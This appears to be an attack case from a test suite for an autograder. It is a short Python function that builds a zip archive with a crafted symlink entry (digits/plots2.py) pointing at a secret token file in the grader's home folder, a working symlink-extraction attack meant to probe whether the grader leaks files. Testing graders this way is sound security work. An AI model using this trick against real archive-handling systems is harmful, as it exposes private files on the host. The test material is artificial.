"""A file of the package is a link to a token in the grader's home folder.
kind: archives
points: 0
hint: a link
"""

import io
import re
import zipfile


def archive(files):
    goal = re.search(r"SECRET_FILE = '(.*)'", files["digits/target.py"].decode())[1]
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as evil:
        for name, content in files.items():
            evil.writestr(name, content)
        link = zipfile.ZipInfo("digits/plots2.py")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        evil.writestr(link, goal)
    return packed.getvalue()
